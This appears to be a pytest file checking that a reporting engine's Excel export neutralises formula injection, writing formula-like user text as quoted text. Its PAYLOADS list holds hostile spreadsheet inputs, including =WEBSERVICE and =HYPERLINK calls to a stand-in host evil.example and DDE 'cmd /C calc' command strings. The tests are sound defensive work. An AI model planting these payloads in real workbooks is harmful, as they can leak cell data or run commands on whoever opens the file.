"""Formula injection: officer-typed text that starts like a formula stays text in every .xlsx.

Finding (issue 9): a result typed as `=HYPERLINK(…)` was written as a live formula (openpyxl
cell type 'f') into the appendix workbook and stayed in the frozen quarter.
"""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook
from test_export import make_snapshot

from engine.reporting.export import export_xlsx, write_all
from engine.reporting.export.cells import FORMULA_TRIGGERS, is_formula_like, put_cell
from engine.reporting.snapshot.model import Snapshot

PAYLOADS = [
    '=HYPERLINK("http://evil.example/x","Bấm vào đây")',
    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def poisoned() -> Snapshot:
    data = make_snapshot().model_dump()
    tasks: list[dict[str, object]] = []

    def walk(node: object) -> None:
        if isinstance(node, dict):
            if "result" in node and "text" in node:
                tasks.append(node)
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(data)
    slots = [(t, field) for t in tasks for field in ("result", "text")]
    assert len(slots) >= len(PAYLOADS)
    for i, (task, field) in enumerate(slots):
        task[field] = PAYLOADS[i % len(PAYLOADS)]
    return Snapshot.model_validate(data)


def cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws is not None
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def check_workbook(data: bytes) -> set[str]:
    found = set()
    for c in cells(data):
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str) and c.value.startswith(FORMULA_TRIGGERS):
            assert c.quotePrefix, c.coordinate
            found.add(c.value)
    return found


def test_formula_like_results_are_text_in_every_appendix() -> None:
    snap = poisoned()
    found: set[str] = set()
    for appendix in snap.appendices:
        found |= check_workbook(export_xlsx(snap, appendix))
    assert found == {p.strip() for p in PAYLOADS}  # the table trims each line


def test_write_all_files_are_text_too(tmp_path: Path) -> None:
    written = write_all(poisoned(), tmp_path)
    xlsx = [p for p in written if p.suffix == ".xlsx"]
    assert len(xlsx) == 3
    found: set[str] = set()
    for path in xlsx:
        found |= check_workbook(path.read_bytes())
    assert found == {p.strip() for p in PAYLOADS}  # the table trims each line


@pytest.mark.parametrize("value", [-5, -0.25, 0, 12, None])
def test_numbers_stay_numbers(value: float | None) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    cell = put_cell(ws, 1, 1, value)
    assert cell.value == value and cell.data_type == "n" and not cell.quotePrefix


@pytest.mark.parametrize("text", ["Đã tổ chức", "1 = 1", "a-b", "", "Kế hoạch số 223/KH-UBND"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    cell = put_cell(ws, 1, 1, text)
    assert cell.value == text and cell.data_type == "s" and not cell.quotePrefix
    assert not is_formula_like(text)
